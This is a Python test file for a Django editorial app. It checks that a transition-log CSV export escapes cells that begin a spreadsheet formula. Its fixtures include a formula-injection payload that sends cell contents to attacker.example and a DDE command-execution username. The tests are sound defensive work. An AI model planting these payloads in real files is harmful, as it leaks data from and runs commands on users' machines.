"""The transition-log CSV: what a spreadsheet opening it would read as a formula is written as text."""

import csv
import io
from datetime import UTC, datetime
from types import SimpleNamespace

import pytest
from django.urls import reverse

from editorial.exports import transition_log_csv
from editorial.services import perform_transition
from tests import workflow
from tests.editorial.test_admin import logged_in

FORMULA = 'HYPERLINK("https://attacker.example/?leak="&A1,"Open the source")'
# What OWASP's CSV injection guidance lists as starting a formula in Excel, LibreOffice or Sheets.
FORMULA_STARTS = ["=", "+", "-", "@", "\t", "\r"]


def entry(**fields) -> SimpleNamespace:
    values = {
        "article": SimpleNamespace(title="What is the treatment for hiccups?", slug="hiccups"),
        "transition": "withdraw",
        "from_state": "approved",
        "to_state": "withdrawn",
        "actor_name": "Noor Haddad",
        "created_at": datetime(2026, 11, 24, 9, 30, tzinfo=UTC),
        "comment": "Superseded",
        "content_hash": "ab12",
        "version": SimpleNamespace(number=1),
    }
    return SimpleNamespace(**{**values, **fields})


def rows_of(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(response.content.decode(), newline="")))


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_a_comment_and_an_actor_that_start_a_formula_are_written_as_text(start):
    """A leading =, +, -, @, tab or carriage return gets a single quote in front, so no cell is a live formula."""
    response = transition_log_csv([entry(comment=start + FORMULA, actor_name=start + "Mallory")], filename="log.csv")
    row = rows_of(response)[1]
    assert row[7] == "'" + start + FORMULA
    assert row[5] == "'" + start + "Mallory"


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_every_column_is_neutralised(start):
    """Titles and slugs are typed by people too: no column is trusted to be harmless."""
    response = transition_log_csv(
        [entry(article=SimpleNamespace(title=start + FORMULA, slug=start + "slug"))], filename="log.csv"
    )
    row = rows_of(response)[1]
    assert row[:2] == ["'" + start + FORMULA, "'" + start + "slug"]


def test_ordinary_values_are_written_unchanged():
    """Text that starts a formula only further in, numbers and empty cells stay exactly as they are."""
    response = transition_log_csv([entry(comment="Dose = 5 mg, not -5", version=None)], filename="log.csv")
    row = rows_of(response)[1]
    assert row == [
        "What is the treatment for hiccups?",
        "hiccups",
        "withdraw",
        "approved",
        "withdrawn",
        "Noor Haddad",
        "2026-11-24T09:30:00+00:00",
        "Dose = 5 mg, not -5",
        "ab12",
        "",
    ]


@pytest.mark.django_db
def test_the_admin_export_does_not_deliver_a_live_formula():
    """An editor's comment and name written as a formula reach the download as text."""
    article = workflow.approved()
    editor = workflow.editor(username="=cmd|' /C calc'!A0")
    perform_transition(article, "withdraw", by=editor, comment="=" + FORMULA)
    response = logged_in(editor).get(reverse("admin:editorial_transitionlog_export", args=[article.pk]))
    last = rows_of(response)[-1]
    assert last[5] == "'=cmd|' /C calc'!A0"
    assert last[7] == "'=" + FORMULA
